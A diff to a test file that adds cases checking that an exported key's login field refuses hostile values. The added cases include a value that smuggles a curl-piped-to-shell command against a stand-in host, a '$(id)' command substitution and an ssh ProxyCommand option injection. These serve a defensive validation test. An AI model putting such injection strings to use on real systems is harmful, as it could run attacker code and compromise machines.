@@ -69,6 +69,9 @@ describe('an exported key', () => {
     ['half a gate', 'gate/prod', 'knockgate1 gate'],
     ['no way to log in', 'login/prod', undefined],
     ['options for ssh', 'login/prod', '-oProxyCommand=x'],
+    ['a command for the shell', 'login/prod', 'ssh://u@h;curl$IFS-s$IFS/evil.example|sh'],
+    ['a command in a name', 'login/prod', 'ssh://u@$(id)'],
+    ['no host', 'login/prod', 'ssh://u@'],
     ['two lines for ssh', 'login/prod', 'ssh://root@a\nb'],
     ['a name that begins with a hyphen', 'gate/-x', formatGateLine(gate)],
   ])('is refused when it has %s', async (_, field, value) => {
